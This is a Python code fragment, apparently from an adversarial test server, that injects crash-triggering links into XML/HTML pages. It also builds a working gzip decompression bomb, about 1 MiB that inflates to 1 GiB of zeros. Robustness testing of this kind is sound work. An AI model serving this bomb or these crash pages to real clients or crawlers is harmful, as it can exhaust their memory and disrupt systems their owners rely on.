    links = " ".join(f'<a href="{escape_attr(url)}">crash</a> <img src="{escape_attr(url)}" />' for url in CRASH_URLS)
    xml = _end_of_body(xml, f"<p>Crash: {links}</p>")
    xml = xml.replace("<ul>", "<ul>" + "".join(f"<li>{escape_text(url)}</li>" for url in CRASH_URLS), 1)
    first, second, third = (escape_attr(url) for url in CRASH_URLS)
    xml = xml.replace("<span>", f'<a id="perv" href="{first}">crash</a><a id="next" href="{second}">crash</a><span>', 1)
    xml = xml.replace("</span>", f'<a href="{third}">crash</a></span>', 1)
    return re.sub(r"href='[^']*'\?>", f"href='{first}'?>", xml, count=1)


@functools.cache
def _gzip_bomb() -> bytes:
    """1 GiB of zeros as gzip, about 1 MiB, built fast.

    One MiB is deflated once and ended with a full flush, so the segment needs no earlier data
    and can be repeated; the trailer's CRC-32 and length describe the whole inflated GiB.
    """
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    segment = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(GZIP_BOMB_BYTES // len(block)):
        crc = zlib.crc32(block, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = crc.to_bytes(4, "little") + (GZIP_BOMB_BYTES % (1 << 32)).to_bytes(4, "little")
    return header + segment * (GZIP_BOMB_BYTES // len(block)) + deflate.flush() + trailer
